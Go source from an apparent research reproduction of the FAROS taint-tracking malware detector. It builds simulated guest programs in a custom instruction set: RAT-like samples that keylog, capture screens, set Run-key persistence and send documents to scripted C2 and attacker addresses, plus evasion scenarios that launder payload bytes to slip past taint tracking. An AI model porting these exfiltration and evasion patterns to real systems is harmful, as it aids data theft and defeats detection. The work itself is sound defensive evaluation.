// Table V performance workloads. The paper measures PANDA replay time with
// and without the FAROS plugin for six applications; these specs rebuild
// those applications' behaviour shapes with a data-churn core (download →
// buffer transforms → file and network I/O) so the replay time is dominated
// by instruction execution over tainted data — the case whole-system DIFT
// pays for.

// churnProgram downloads a tainted block, then performs `rounds` rounds of
// buffer copying, xor-accumulation, file round-trips and exfil sends, plus
// a round of device reads — the instruction mix of a chatty desktop app.
func churnProgram(name string, addr gnet.Addr, rounds, bufLen uint32) Program {
	b := peimg.NewBuilder(name)
	b.DataBlk.Label("cache").DataString("cache.dat")
	bufA := b.BSS(bufLen)
	bufB := b.BSS(bufLen)

	emitConnect(b, addr)
	emitRecv(b, bufA, bufLen)

	b.Text.Movi(isa.EBX, b.MustDataVA("cache"))
	b.CallImport("CreateFileA")
	b.Text.Push(isa.EAX) // file handle at [ESP] during the outer loop body

	emitBoundedLoop(b, "round", rounds, func() {
		// Copy A → B byte-by-byte (taint-carrying stores).
		b.Text.Movi(isa.ECX, 0)
		b.Text.Label("cp")
		b.Text.Cmpi(isa.ECX, bufLen)
		b.Text.Jge("cp_done")
		b.Text.Movi(isa.ESI, bufA)
		b.Text.LdbIdx(isa.EAX, isa.ESI, isa.ECX)
		b.Text.Xori(isa.EAX, 0x5A) // computation keeps the union rule busy
		b.Text.Movi(isa.ESI, bufB)
		b.Text.StbIdx(isa.ESI, isa.ECX, isa.EAX)
		b.Text.Addi(isa.ECX, 1)
		b.Text.Jmp("cp")
		b.Text.Label("cp_done")

		// Accumulate over B (loads + ALU unions).
		b.Text.Movi(isa.EDX, 0)
		b.Text.Movi(isa.ECX, 0)
		b.Text.Label("acc")
		b.Text.Cmpi(isa.ECX, bufLen)
		b.Text.Jge("acc_done")
		b.Text.Movi(isa.ESI, bufB)
		b.Text.LdbIdx(isa.EAX, isa.ESI, isa.ECX)
		b.Text.Add(isa.EDX, isa.EAX)
		b.Text.Addi(isa.ECX, 1)
		b.Text.Jmp("acc")
		b.Text.Label("acc_done")

		// File round trip for a slice of B.
		b.Text.Ld(isa.EBX, isa.ESP, 4) // file handle (under loop counter)
		b.Text.Movi(isa.ECX, bufB)
		b.Text.Movi(isa.EDX, 64)
		b.CallImport("WriteFile")

		// Exfil a chunk.
		emitSendBuf(b, bufB, 32, false)

		// Device polls (keyboard + screen) like an interactive app.
		b.Text.Movi(isa.EBX, bufB)
		b.Text.Movi(isa.ECX, 32)
		b.CallImport("ReadKeyboard")
		b.Text.Movi(isa.EBX, bufB)
		b.Text.Movi(isa.ECX, 32)
		b.CallImport("ReadScreen")
	})
	b.Text.Pop(isa.EAX)
	emitExit(b, 0)
	return build(b, name)
}

// perfDeviceScript feeds the devices for the whole run.
func perfDeviceScript(rounds int) []record.Event {
	var out []record.Event
	for i := 0; i < rounds; i++ {
		at := uint64(10_000 + i*60_000)
		out = append(out, record.Event{At: at, Kind: record.EvKeyboard, Data: []byte(fmt.Sprintf("keys-%03d\x00", i))})
		out = append(out, record.Event{At: at + 20_000, Kind: record.EvAudio, Data: []byte{byte(i), byte(i + 1), byte(i + 2), byte(i + 3)}})
	}
	return out
}

// PerfWorkload names one Table V row.
type PerfWorkload struct {
	Display string
	Spec    Spec
}

// perfSpec builds one row's scenario; rounds scales workload complexity,
// matching the paper's observation that recordings with more complex
// behaviour show more overhead.
func perfSpec(display, exe string, seed int, rounds uint32) Spec {
	addr := corpusC2Addr(100 + seed)
	return Spec{
		Name:       "perf_" + sanitizeName(display),
		Programs:   []Program{churnProgram(exe, addr, rounds, 512)},
		AutoStart:  []string{exe},
		Endpoints:  []EndpointSpec{{Addr: addr, Endpoint: corpusC2{}}},
		Events:     perfDeviceScript(10),
		MaxInstr:   80_000_000,
		ExpectFlag: false,
	}
}

// PerfWorkloads returns the six Table V applications.
func PerfWorkloads() []PerfWorkload {
	return []PerfWorkload{
		{"Skype", perfSpec("Skype", "skype.exe", 11, 220)},
		{"Team Viewer", perfSpec("Team Viewer", "teamviewer.exe", 12, 90)},
		{"Bozok", perfSpec("Bozok", "bozok.exe", 13, 25)},
		{"Spygate", perfSpec("Spygate", "spygate.exe", 14, 120)},
		{"Pandora", perfSpec("Pandora", "pandora.exe", 15, 15)},
		{"Remote Utility", perfSpec("Remote Utility", "remote_utility.exe", 16, 240)},
	}
}

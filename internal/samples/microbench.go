package samples

import (
	"faros/internal/isa"
	"faros/internal/peimg"
)

// Indirect-flow microbenchmarks: the paper's Figure 1 (address dependency
// through a lookup table) and Figure 2 (control dependency, bit-by-bit
// copy) as guest workloads. The farosbench `indirect` experiment runs them
// under the default policy (no indirect-flow propagation) and under the
// address-dependency ablation to show the undertainting/overtainting
// trade-off of §III–IV.

// IndirectWorkload is a microbenchmark spec plus the buffer addresses to
// inspect afterwards.
type IndirectWorkload struct {
	Spec  Spec
	SrcVA uint32 // tainted input buffer
	DstVA uint32 // output buffer whose taint is under test
	Len   uint32
}

// Figure1Workload builds the lookup-table copy: str2[j] = table[str1[j]].
func Figure1Workload() IndirectWorkload {
	const n = 14
	b := peimg.NewBuilder("fig1.exe")
	table := b.BSS(256)
	str1 := b.BSS(32)
	str2 := b.BSS(32)

	emitConnect(b, AttackerAddr)
	emitRecv(b, str1, n)

	b.Text.Movi(isa.ECX, 0)
	b.Text.Movi(isa.EBX, table)
	b.Text.Label("init")
	b.Text.Cmpi(isa.ECX, 256)
	b.Text.Jge("copy")
	b.Text.StbIdx(isa.EBX, isa.ECX, isa.ECX)
	b.Text.Addi(isa.ECX, 1)
	b.Text.Jmp("init")
	b.Text.Label("copy")
	b.Text.Movi(isa.ECX, 0)
	b.Text.Label("loop")
	b.Text.Cmpi(isa.ECX, n)
	b.Text.Jge("done")
	b.Text.Movi(isa.ESI, str1)
	b.Text.LdbIdx(isa.EAX, isa.ESI, isa.ECX)
	b.Text.Movi(isa.ESI, table)
	b.Text.LdbIdx(isa.EDX, isa.ESI, isa.EAX) // the address dependency
	b.Text.Movi(isa.ESI, str2)
	b.Text.StbIdx(isa.ESI, isa.ECX, isa.EDX)
	b.Text.Addi(isa.ECX, 1)
	b.Text.Jmp("loop")
	b.Text.Label("done")
	emitExit(b, 0)

	return IndirectWorkload{
		Spec: Spec{
			Name:      "fig1_address_dependency",
			Programs:  []Program{build(b, "fig1.exe")},
			AutoStart: []string{"fig1.exe"},
			Endpoints: []EndpointSpec{{Addr: AttackerAddr, Endpoint: oneShot{delay: 300, payload: []byte("Tainted string")}}},
			MaxInstr:  5_000_000,
		},
		SrcVA: str1, DstVA: str2, Len: n,
	}
}

// OvertaintWorkload is a decoder-style program stressing address
// dependencies: it downloads a 1 KiB tainted block and runs three
// generations of table-lookup transforms over it (out[i] = table[in[i]]),
// the pattern §III says dominates real systems (decompression, decoding,
// string handling). Under the default policy the outputs stay untainted
// (undertainting); with address-dependency propagation on, taint floods
// every generation (overtainting) — the ablation's measured blow-up.
func OvertaintWorkload() IndirectWorkload {
	const n = 1024
	b := peimg.NewBuilder("decoder.exe")
	table := b.BSS(256)
	in := b.BSS(n)
	gen1 := b.BSS(n)
	gen2 := b.BSS(n)
	gen3 := b.BSS(n)

	emitConnect(b, AttackerAddr)
	emitRecv(b, in, n)

	// Identity table.
	b.Text.Movi(isa.ECX, 0)
	b.Text.Movi(isa.EBX, table)
	b.Text.Label("init")
	b.Text.Cmpi(isa.ECX, 256)
	b.Text.Jge("g1")
	b.Text.StbIdx(isa.EBX, isa.ECX, isa.ECX)
	b.Text.Addi(isa.ECX, 1)
	b.Text.Jmp("init")

	gen := func(label, next string, src, dst uint32) {
		b.Text.Label(label)
		b.Text.Movi(isa.ECX, 0)
		b.Text.Label(label + "_loop")
		b.Text.Cmpi(isa.ECX, n)
		b.Text.Jge(next)
		b.Text.Movi(isa.ESI, src)
		b.Text.LdbIdx(isa.EAX, isa.ESI, isa.ECX)
		b.Text.Andi(isa.EAX, 0xFF)
		b.Text.Movi(isa.ESI, table)
		b.Text.LdbIdx(isa.EDX, isa.ESI, isa.EAX) // address dependency
		b.Text.Movi(isa.ESI, dst)
		b.Text.StbIdx(isa.ESI, isa.ECX, isa.EDX)
		b.Text.Addi(isa.ECX, 1)
		b.Text.Jmp(label + "_loop")
	}
	gen("g1", "g2", in, gen1)
	gen("g2", "g3", gen1, gen2)
	gen("g3", "fin", gen2, gen3)
	b.Text.Label("fin")
	emitExit(b, 0)

	payload := make([]byte, n)
	for i := range payload {
		payload[i] = byte(i*31 + 7)
	}
	return IndirectWorkload{
		Spec: Spec{
			Name:      "overtaint_decoder",
			Programs:  []Program{build(b, "decoder.exe")},
			AutoStart: []string{"decoder.exe"},
			Endpoints: []EndpointSpec{{Addr: AttackerAddr, Endpoint: oneShot{delay: 300, payload: payload}}},
			MaxInstr:  20_000_000,
		},
		SrcVA: in, DstVA: gen3, Len: n,
	}
}

// Spinner builds a busy-loop workload that never exits on its own: it runs
// until the maxInstr budget (or a caller-imposed deadline) stops it. The
// pipeline and CLI use it to exercise cooperative cancellation — a wedged
// guest that would otherwise pin a worker for the whole budget.
func Spinner(maxInstr uint64) Spec {
	b := peimg.NewBuilder("spin.exe")
	b.Text.Label("spin")
	b.Text.Addi(isa.EAX, 1)
	b.Text.Jmp("spin")
	return Spec{
		Name:      "spinner",
		Programs:  []Program{build(b, "spin.exe")},
		AutoStart: []string{"spin.exe"},
		MaxInstr:  maxInstr,
	}
}

// Figure2Workload builds the bit-by-bit copy through if statements.
func Figure2Workload() IndirectWorkload {
	b := peimg.NewBuilder("fig2.exe")
	in := b.BSS(16)
	out := b.BSS(16)

	emitConnect(b, AttackerAddr)
	emitRecv(b, in, 1)

	b.Text.Movi(isa.EBX, in)
	b.Text.Ldb(isa.EAX, isa.EBX, 0) // tainted input
	b.Text.Movi(isa.EDX, 0)         // untainted output
	b.Text.Movi(isa.ECX, 1)         // bit
	b.Text.Label("loop")
	b.Text.Cmpi(isa.ECX, 256)
	b.Text.Jge("done")
	b.Text.Mov(isa.ESI, isa.EAX)
	b.Text.And(isa.ESI, isa.ECX)
	b.Text.Cmpi(isa.ESI, 0)
	b.Text.Jz("skip")
	b.Text.Or(isa.EDX, isa.ECX) // the control dependency
	b.Text.Label("skip")
	b.Text.Shli(isa.ECX, 1)
	b.Text.Jmp("loop")
	b.Text.Label("done")
	b.Text.Movi(isa.EBX, out)
	b.Text.Stb(isa.EBX, 0, isa.EDX)
	emitExit(b, 0)

	return IndirectWorkload{
		Spec: Spec{
			Name:      "fig2_control_dependency",
			Programs:  []Program{build(b, "fig2.exe")},
			AutoStart: []string{"fig2.exe"},
			Endpoints: []EndpointSpec{{Addr: AttackerAddr, Endpoint: oneShot{delay: 300, payload: []byte{0xA7}}}},
			MaxInstr:  5_000_000,
		},
		SrcVA: in, DstVA: out, Len: 1,
	}
}

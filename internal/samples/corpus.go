package samples

import (
	"fmt"

	"faros/internal/guest/gnet"
	"faros/internal/isa"
	"faros/internal/peimg"
	"faros/internal/record"
)

// Behavior is one of the Table IV behaviour columns.
type Behavior uint8

// Behaviours (Table IV columns).
const (
	BIdle Behavior = iota + 1
	BRun
	BAudioRecord
	BFileTransfer
	BKeylogger
	BRemoteDesktop
	BUpload
	BDownload
	BRemoteShell
)

var behaviorNames = map[Behavior]string{
	BIdle: "Idle", BRun: "Run", BAudioRecord: "Audio Record",
	BFileTransfer: "File Transfer", BKeylogger: "Key logger",
	BRemoteDesktop: "Remote Desktop", BUpload: "Upload",
	BDownload: "Download", BRemoteShell: "Remote Shell",
}

// String returns the Table IV column label.
func (b Behavior) String() string { return behaviorNames[b] }

// AllBehaviors returns the Table IV columns in order.
func AllBehaviors() []Behavior {
	return []Behavior{BIdle, BRun, BAudioRecord, BFileTransfer, BKeylogger, BRemoteDesktop, BUpload, BDownload, BRemoteShell}
}

// Family is one malware family row of Table IV.
type Family struct {
	Name      string
	Behaviors []Behavior
}

// MalwareFamilies reproduces the real-world (non-in-memory-injecting)
// malware rows of Table IV with their behaviour checkmarks.
func MalwareFamilies() []Family {
	return []Family{
		{"Pandora v2.2", []Behavior{BIdle, BRun, BAudioRecord, BFileTransfer, BKeylogger, BUpload, BDownload}},
		{"Darkcomet v5.3", []Behavior{BIdle, BRun, BFileTransfer, BKeylogger, BUpload, BDownload}},
		{"Njrat v0.7", []Behavior{BIdle, BRun, BKeylogger, BRemoteDesktop, BUpload, BDownload}},
		{"Spygate v3.2", []Behavior{BIdle, BRun, BAudioRecord, BKeylogger, BRemoteDesktop, BUpload, BDownload}},
		{"Blue Banana", []Behavior{BIdle, BRun, BDownload, BRemoteShell}},
		{"Blue Banana v2.0", []Behavior{BIdle, BRun, BDownload, BRemoteShell}},
		{"Blue Banana v3.0", []Behavior{BIdle, BRun, BDownload, BRemoteShell}},
		{"Bozok", []Behavior{BIdle, BRun, BFileTransfer, BKeylogger, BUpload, BDownload}},
		{"Bozok v2.0", []Behavior{BIdle, BRun, BFileTransfer, BKeylogger, BUpload, BDownload}},
		{"Bozok v3.0", []Behavior{BIdle, BRun, BFileTransfer, BKeylogger, BUpload, BDownload}},
		{"DarkComet v5.1.2", []Behavior{BIdle, BRun, BFileTransfer, BKeylogger, BUpload, BDownload}},
		{"DarkComet legacy", []Behavior{BIdle, BRun, BFileTransfer, BKeylogger, BUpload, BDownload}},
		{"Extremerat v2.7.1", []Behavior{BIdle, BRun, BAudioRecord, BFileTransfer, BKeylogger, BUpload, BDownload}},
		{"Jspy", []Behavior{BIdle, BRun, BKeylogger, BRemoteShell}},
		{"Jspy v2.0", []Behavior{BIdle, BRun, BKeylogger, BRemoteShell}},
		{"Jspy v3.0", []Behavior{BIdle, BRun, BKeylogger, BRemoteShell}},
		{"Quasar v1.0", []Behavior{BIdle, BRun, BRemoteShell}},
	}
}

// corpusC2Addr derives a per-sample C2 address.
func corpusC2Addr(seed int) gnet.Addr {
	return gnet.Addr{IP: fmt.Sprintf("185.12.%d.%d", 1+seed/250, 1+seed%250), Port: 6666}
}

// needsNetwork reports whether any behaviour uses the C2 channel.
func needsNetwork(behaviors []Behavior) bool {
	for _, b := range behaviors {
		switch b {
		case BFileTransfer, BRemoteDesktop, BUpload, BDownload, BRemoteShell:
			return true
		}
	}
	return false
}

// corpusC2 scripts the C2 for the behaviour corpus: a banner carrying
// download data plus one command, and a reply per exfil message.
type corpusC2 struct{}

func (corpusC2) OnConnect(gnet.Flow) []gnet.Reply {
	// A banner (consumed by Download) and a later command (consumed by
	// RemoteShell), so samples with both behaviours never deadlock.
	return []gnet.Reply{
		{DelayInstr: 300, Data: []byte("update-blob-0001\x00")},
		{DelayInstr: 500_000, Data: []byte("run recon\x00")},
	}
}

func (corpusC2) OnData(gnet.Flow, []byte) []gnet.Reply {
	return []gnet.Reply{{DelayInstr: 300, Data: []byte("ack\x00")}}
}

// behaviorProgram builds a sample exercising the given behaviours. seed
// varies buffer sizes, intervals and file names so corpus variants are not
// byte-identical.
func behaviorProgram(exeName string, behaviors []Behavior, seed int) Program {
	b := peimg.NewBuilder(exeName)
	net := needsNetwork(behaviors)
	interval := uint32(200 + (seed%7)*100)
	chunk := uint32(24 + (seed%5)*8)

	// Data pool.
	b.DataBlk.Label("docname").DataString(fmt.Sprintf("document_%d.txt", seed%3))
	b.DataBlk.Label("logname").DataString(fmt.Sprintf("keys_%d.log", seed%4))
	b.DataBlk.Label("audname").DataString("audio.dat")
	b.DataBlk.Label("dlname").DataString("download.bin")
	b.DataBlk.Label("runmsg").DataString(exeName + ": task executed")
	b.DataBlk.Label("runkey").DataString(`HKCU\Software\WinMini\Run\` + exeName)
	b.DataBlk.Label("selfref").DataString(exeName)
	buf := b.BSS(4096)

	if net {
		emitConnect(b, corpusC2Addr(seed)) // defines c2ip; socket in EBP
	}

	for bi, beh := range behaviors {
		label := fmt.Sprintf("b%d", bi)
		switch beh {
		case BIdle:
			emitBoundedLoop(b, label, 2, func() { emitSleep(b, interval) })

		case BRun:
			// RATs install persistence before running tasks: a Run key
			// pointing at their own executable (visible to the Cuckoo
			// baseline as a registry-persistence verdict).
			b.Text.Movi(isa.EBX, b.MustDataVA("runkey"))
			b.Text.Movi(isa.ECX, b.MustDataVA("selfref"))
			b.CallImport("RegSetValueA")
			emitDebugPrint(b, "runmsg")

		case BAudioRecord:
			// Poll audio; write whatever arrived to audio.dat.
			b.Text.Movi(isa.EBX, b.MustDataVA("audname"))
			b.CallImport("CreateFileA")
			b.Text.Push(isa.EAX)
			emitBoundedLoop(b, label, 3, func() {
				b.Text.Movi(isa.EBX, buf)
				b.Text.Movi(isa.ECX, chunk)
				b.CallImport("ReadAudio")
				b.Text.Cmpi(isa.EAX, 0)
				b.Text.Jz(label + "_skip")
				b.Text.Mov(isa.EDX, isa.EAX)
				b.Text.Ld(isa.EBX, isa.ESP, 4) // file handle (under loop counter)
				b.Text.Movi(isa.ECX, buf)
				emitRetryImport(b, "WriteFile")
				b.Text.Label(label + "_skip")
				emitSleep(b, interval)
			})
			b.Text.Pop(isa.EAX)

		case BFileTransfer, BUpload:
			// Read a local document and send it to the C2.
			b.Text.Movi(isa.EBX, b.MustDataVA("docname"))
			b.CallImport("OpenFileA")
			b.Text.Cmpi(isa.EAX, 0xFFFFFFFF)
			b.Text.Jz(label + "_nofile")
			b.Text.Mov(isa.EBX, isa.EAX)
			b.Text.Movi(isa.ECX, buf)
			b.Text.Movi(isa.EDX, chunk)
			emitRetryImport(b, "ReadFile")
			emitSendBuf(b, buf, 0, true)
			b.Text.Label(label + "_nofile")

		case BKeylogger:
			b.Text.Movi(isa.EBX, b.MustDataVA("logname"))
			b.CallImport("CreateFileA")
			b.Text.Push(isa.EAX)
			emitBoundedLoop(b, label, 3, func() {
				b.Text.Movi(isa.EBX, buf)
				b.Text.Movi(isa.ECX, 64)
				b.CallImport("ReadKeyboard")
				b.Text.Cmpi(isa.EAX, 0)
				b.Text.Jz(label + "_skip")
				b.Text.Mov(isa.EDX, isa.EAX)
				b.Text.Ld(isa.EBX, isa.ESP, 4)
				b.Text.Movi(isa.ECX, buf)
				emitRetryImport(b, "WriteFile")
				b.Text.Label(label + "_skip")
				emitSleep(b, interval)
			})
			b.Text.Pop(isa.EAX)

		case BRemoteDesktop:
			emitBoundedLoop(b, label, 2, func() {
				b.Text.Movi(isa.EBX, buf)
				b.Text.Movi(isa.ECX, chunk)
				b.CallImport("ReadScreen")
				emitSendBuf(b, buf, 0, true)
				emitSleep(b, interval)
			})

		case BDownload:
			emitRecv(b, buf, chunk)
			b.Text.Push(isa.EAX) // n
			b.Text.Movi(isa.EBX, b.MustDataVA("dlname"))
			b.CallImport("CreateFileA")
			b.Text.Mov(isa.EBX, isa.EAX)
			b.Text.Pop(isa.EDX)
			b.Text.Movi(isa.ECX, buf)
			emitRetryImport(b, "WriteFile")

		case BRemoteShell:
			emitRecv(b, buf, 64)
			b.Text.Movi(isa.EBX, buf)
			b.CallImport("DebugPrint")
			emitSendBuf(b, buf, 8, false)
		}
	}

	emitExit(b, 0)
	return build(b, exeName)
}

// corpusDeviceScript supplies keyboard/audio input for samples that poll
// those devices.
func corpusDeviceScript() []record.Event {
	return []record.Event{
		{At: 20_000, Kind: record.EvKeyboard, Data: []byte("password123\x00")},
		{At: 30_000, Kind: record.EvAudio, Data: []byte{9, 8, 7, 6, 5, 4, 3, 2, 1, 0}},
		{At: 700_000, Kind: record.EvKeyboard, Data: []byte("more keys\x00")},
		{At: 800_000, Kind: record.EvAudio, Data: []byte{1, 2, 3, 4}},
	}
}

// CorpusSize is the number of non-injecting malware samples (Table IV
// evaluates 90 such samples).
const CorpusSize = 90

// MalwareCorpus generates the 90-sample non-injecting malware corpus:
// variants of the Table IV families, cycling through them with varying
// seeds. None of the samples injects memory or resolves APIs by walking
// the export table, so FAROS must flag none of them.
func MalwareCorpus() []Spec {
	families := MalwareFamilies()
	out := make([]Spec, 0, CorpusSize)
	for i := 0; i < CorpusSize; i++ {
		fam := families[i%len(families)]
		variant := i/len(families) + 1
		exe := fmt.Sprintf("%s_v%d.exe", sanitizeName(fam.Name), variant)
		spec := Spec{
			Name:       fmt.Sprintf("corpus_%02d_%s", i, sanitizeName(fam.Name)),
			Programs:   []Program{behaviorProgram(exe, fam.Behaviors, i)},
			AutoStart:  []string{exe},
			Events:     corpusDeviceScript(),
			MaxInstr:   3_000_000,
			ExpectFlag: false,
		}
		if needsNetwork(fam.Behaviors) {
			spec.Endpoints = []EndpointSpec{{Addr: corpusC2Addr(i), Endpoint: corpusC2{}}}
		}
		out = append(out, spec)
	}
	return out
}

// SeedFiles returns documents pre-installed in the guest FS that corpus
// samples read and exfiltrate.
func SeedFiles() map[string][]byte {
	return map[string][]byte{
		"document_0.txt": []byte("quarterly numbers: 17, 23, 31"),
		"document_1.txt": []byte("meeting notes, do not share"),
		"document_2.txt": []byte("vpn credentials: REDACTED"),
		"secrets.txt":    []byte("api-key-0xDEADBEEF"),
	}
}

func sanitizeName(s string) string {
	out := make([]byte, 0, len(s))
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case c >= 'a' && c <= 'z', c >= '0' && c <= '9':
			out = append(out, c)
		case c >= 'A' && c <= 'Z':
			out = append(out, c+('a'-'A'))
		case c == ' ' || c == '.':
			out = append(out, '_')
		}
	}
	return string(out)
}

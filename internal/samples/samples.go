// Package samples contains the guest-program corpus of the reproduction:
// the six in-memory-injection attacks of the paper's evaluation, the
// injected payloads they deliver, the victim processes, the 20 JIT
// workloads of Table III, the 104-sample false-positive corpus of Table IV
// (90 non-injecting malware + 14 benign programs), and the six performance
// workloads of Table V.
//
// Every sample is a real MZ32 program written in FAROS-32 assembly through
// the peimg.Builder; payloads are raw position-independent code blobs
// delivered over the simulated network or embedded in images.
package samples

import (
	"fmt"

	"faros/internal/guest/gnet"
	"faros/internal/peimg"
	"faros/internal/record"
)

// Program is a built guest binary ready to install in the guest FS.
type Program struct {
	Path  string
	Bytes []byte
}

// EndpointSpec binds a scripted remote host to an address.
type EndpointSpec struct {
	Addr     gnet.Addr
	Endpoint gnet.Endpoint
}

// Spec is a complete runnable scenario: programs, start order, remote
// endpoints, and scripted device input.
type Spec struct {
	Name      string
	Programs  []Program
	AutoStart []string
	Endpoints []EndpointSpec
	Events    []record.Event
	// MaxInstr bounds the run (0 = scenario default).
	MaxInstr uint64
	// ExpectRule, when non-empty, is the FAROS rule expected to fire.
	ExpectRule string
	// ExpectFlag is whether FAROS should flag the scenario.
	ExpectFlag bool
}

// build assembles a builder into a Program, panicking on builder errors
// (sample construction is fully test-covered).
func build(b *peimg.Builder, path string) Program {
	raw, err := b.BuildBytes()
	if err != nil {
		panic(fmt.Sprintf("samples: build %s: %v", path, err))
	}
	return Program{Path: path, Bytes: raw}
}

// AttackerAddr is the attacker machine of the paper's testbed.
var AttackerAddr = gnet.Addr{IP: "169.254.26.161", Port: 4444}

// AttackerShellAddr is the secondary connect-back port used by RAT
// payloads.
var AttackerShellAddr = gnet.Addr{IP: "169.254.26.161", Port: 5555}

// oneShot is an endpoint that delivers one payload after connect and
// ignores sends.
type oneShot struct {
	delay   uint64
	payload []byte
}

func (e oneShot) OnConnect(gnet.Flow) []gnet.Reply {
	return []gnet.Reply{{DelayInstr: e.delay, Data: e.payload}}
}

func (e oneShot) OnData(gnet.Flow, []byte) []gnet.Reply { return nil }

// sink accepts anything and replies nothing (upload targets).
type sink struct{}

func (sink) OnConnect(gnet.Flow) []gnet.Reply      { return nil }
func (sink) OnData(gnet.Flow, []byte) []gnet.Reply { return nil }

// chatterbox replies to every send with a scripted response and pushes a
// banner on connect (C2 servers, benign chat/remote-desktop peers).
type chatterbox struct {
	banner []byte
	reply  []byte
	delay  uint64
}

func (e chatterbox) OnConnect(gnet.Flow) []gnet.Reply {
	if len(e.banner) == 0 {
		return nil
	}
	return []gnet.Reply{{DelayInstr: e.delay, Data: e.banner}}
}

func (e chatterbox) OnData(gnet.Flow, []byte) []gnet.Reply {
	if len(e.reply) == 0 {
		return nil
	}
	return []gnet.Reply{{DelayInstr: e.delay, Data: e.reply}}
}

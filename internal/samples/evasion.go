package samples

import (
	"fmt"

	"faros/internal/guest"
	"faros/internal/isa"
	"faros/internal/peimg"
)

// Evasion scenarios for the §VI.D discussion: techniques an attacker aware
// of FAROS' policy could try, and what the baseline and extended policies
// do about them.

// hardcodedStubPayload builds a payload that never reads the export table:
// it calls the kernel API stubs at their fixed, well-known addresses.
// Under the default confluence policy there is no tagged read to flag; the
// StrictExecCheck extension flags the execution of netflow-tainted code
// itself.
func hardcodedStubPayload(message string) []byte {
	pb := isa.NewBlock()
	mb, ok := guest.StubAddrOf("MessageBoxA")
	if !ok {
		panic("samples: MessageBoxA stub missing")
	}
	exit, _ := guest.StubAddrOf("ExitProcess")
	sleep, _ := guest.StubAddrOf("Sleep")
	pb.LeaSelf(isa.EBX, "msg")
	pb.Movi(isa.EDI, mb)
	pb.CallReg(isa.EDI)
	_ = exit
	pb.Label("tail")
	pb.Movi(isa.EBX, 5000)
	pb.Movi(isa.EDI, sleep)
	pb.CallReg(isa.EDI)
	pb.Jmp("tail")
	pb.Label("msg").DataString(message)
	code, err := pb.Assemble(0)
	if err != nil {
		panic(fmt.Sprintf("samples: hardcoded stub payload: %v", err))
	}
	return code
}

// EvasionHardcodedStubs is a self-injection that avoids the export table
// entirely by calling hardcoded stub addresses.
func EvasionHardcodedStubs() Spec {
	payload := hardcodedStubPayload("stub-evasion payload ran")
	return Spec{
		Name: "evasion_hardcoded_stubs",
		Programs: []Program{
			selfInjector("stub_evader.exe", uint32(len(payload))),
		},
		AutoStart:  []string{"stub_evader.exe"},
		Endpoints:  []EndpointSpec{{Addr: AttackerAddr, Endpoint: oneShot{delay: 400, payload: payload}}},
		MaxInstr:   4_000_000,
		ExpectFlag: false, // default policy misses it; StrictExecCheck catches it
	}
}

// bitLaunderingInjector receives a payload and copies it into an RWX
// allocation one *bit* at a time through control dependencies (the paper's
// Figure 2 evasion, acknowledged in §VI.D): the copied bytes are
// value-identical but taint-free, so no policy that relies on propagated
// tags can flag the execution. The scenario documents FAROS' admitted
// limitation.
func bitLaunderingInjector(name string, payloadLen uint32) Program {
	b := peimg.NewBuilder(name)
	buf := b.BSS(4096)

	emitConnect(b, AttackerAddr)
	emitRecvAll(b, buf, payloadLen)

	b.Text.Movi(isa.EBX, 0)
	b.Text.Movi(isa.ECX, 0)
	b.Text.Movi(isa.EDX, payloadLen)
	b.Text.Movi(isa.ESI, 7)
	b.CallImport("VirtualAlloc")
	b.Text.Mov(isa.EBP, isa.EAX)

	// Outer loop over bytes; the byte index lives on the stack.
	b.Text.Movi(isa.EAX, 0)
	b.Text.Push(isa.EAX)
	b.Text.Label("outer")
	b.Text.Ld(isa.EDI, isa.ESP, 0)
	b.Text.Cmpi(isa.EDI, payloadLen)
	b.Text.Jge("launder_done")
	b.Text.Movi(isa.ESI, buf)
	b.Text.LdbIdx(isa.EAX, isa.ESI, isa.EDI) // tainted input byte
	b.Text.Movi(isa.EDX, 0)                  // untainted output byte
	b.Text.Movi(isa.ECX, 1)                  // bit mask
	b.Text.Label("bits")
	b.Text.Cmpi(isa.ECX, 256)
	b.Text.Jge("bits_done")
	b.Text.Mov(isa.ESI, isa.EAX)
	b.Text.And(isa.ESI, isa.ECX)
	b.Text.Cmpi(isa.ESI, 0)
	b.Text.Jz("bit_clear")
	b.Text.Or(isa.EDX, isa.ECX) // information flows via the branch only
	b.Text.Label("bit_clear")
	b.Text.Shli(isa.ECX, 1)
	b.Text.Jmp("bits")
	b.Text.Label("bits_done")
	b.Text.Ld(isa.EDI, isa.ESP, 0)
	b.Text.StbIdx(isa.EBP, isa.EDI, isa.EDX) // laundered byte
	b.Text.Addi(isa.EDI, 1)
	b.Text.St(isa.ESP, 0, isa.EDI)
	b.Text.Jmp("outer")
	b.Text.Label("launder_done")
	b.Text.Pop(isa.EAX)
	b.Text.CallReg(isa.EBP)
	emitExit(b, 0)
	return build(b, name)
}

// EvasionBitLaundering delivers a normal export-walking payload but copies
// it through the control-dependency laundry before execution.
func EvasionBitLaundering() Spec {
	payload := BuildPayload(PayloadSpec{Message: "laundered payload ran"})
	return Spec{
		Name: "evasion_bit_laundering",
		Programs: []Program{
			bitLaunderingInjector("launderer.exe", uint32(len(payload))),
		},
		AutoStart:  []string{"launderer.exe"},
		Endpoints:  []EndpointSpec{{Addr: AttackerAddr, Endpoint: oneShot{delay: 400, payload: payload}}},
		MaxInstr:   8_000_000,
		ExpectFlag: false, // acknowledged blind spot (§VI.D)
	}
}

// EvasionScenarios returns the §VI.D evasion studies.
func EvasionScenarios() []Spec {
	return []Spec{EvasionHardcodedStubs(), EvasionBitLaundering()}
}

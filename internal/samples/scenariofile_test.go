package samples

import (
	"os"
	"path/filepath"
	"testing"
)

const testPayloadASM = `
; resolve nothing: call the ExitProcess stub directly after one
; export-table read (enough to trip the netflow confluence).
entry:
  MOV ECX, 0x7FF00000
  LD  EDX, [ECX]
  MOV EBX, 0
  MOV EDI, 0x7FE00000
  CALL EDI
`

func writeScenarioDir(t *testing.T, scenarioJSON string) string {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "payload.s"), []byte(testPayloadASM), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "scenario.json"), []byte(scenarioJSON), 0o644); err != nil {
		t.Fatal(err)
	}
	return dir
}

func TestLoadScenarioFileASM(t *testing.T) {
	dir := writeScenarioDir(t, `{
	  "name": "file_attack",
	  "victim": "winver.exe",
	  "payload_asm": "payload.s",
	  "attacker": {"ip": "198.51.100.7", "port": 9999}
	}`)
	spec, err := LoadScenarioFile(filepath.Join(dir, "scenario.json"))
	if err != nil {
		t.Fatal(err)
	}
	if spec.Name != "file_attack" || len(spec.Programs) != 2 || len(spec.Endpoints) != 1 {
